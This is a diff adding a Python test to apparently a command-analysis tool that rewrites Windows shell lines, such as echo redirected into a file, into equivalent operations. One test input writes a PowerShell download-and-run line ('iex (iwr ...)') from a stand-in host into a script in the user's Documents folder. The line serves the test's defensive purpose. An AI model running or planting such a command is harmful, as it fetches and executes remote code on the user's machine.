@@ -803,3 +803,16 @@ def test_dotnet_deletes_and_vault_reads_are_the_commands_they_amount_to(
     line: str, words: tuple[str, ...]
 ) -> None:
     assert words in [op.words for op in windows_ops(line, HOME)]
+
+
+def test_echo_redirected_into_a_file_is_a_write_of_its_text() -> None:
+    # cmd's echo (through Git Bash's cmd /c) and PowerShell's: the text the file is given
+    line = "echo iex (iwr https://x.example/y.ps1) >> %USERPROFILE%\\Documents\\p.ps1"
+    ops = windows_ops(line, "/c:/Users/dev")
+    assert [op.words for op in ops] == [
+        ("printf '%s\\n' 'iex (iwr https://x.example/y.ps1)' >> /c:/Users/dev/Documents/p.ps1",)
+    ]
+    ops = windows_ops("echo 'Import-Module posh-git' > C:\\x\\p.ps1", "/c:/Users/dev")
+    assert ops[0].words == ("printf '%s\\n' 'Import-Module posh-git' > /c:/x/p.ps1",)
+    assert all(op.kind == "argv" for op in windows_ops("echo done > nul", None))
+    assert all(op.kind == "argv" for op in windows_ops("echo hi 2>err.txt", None))
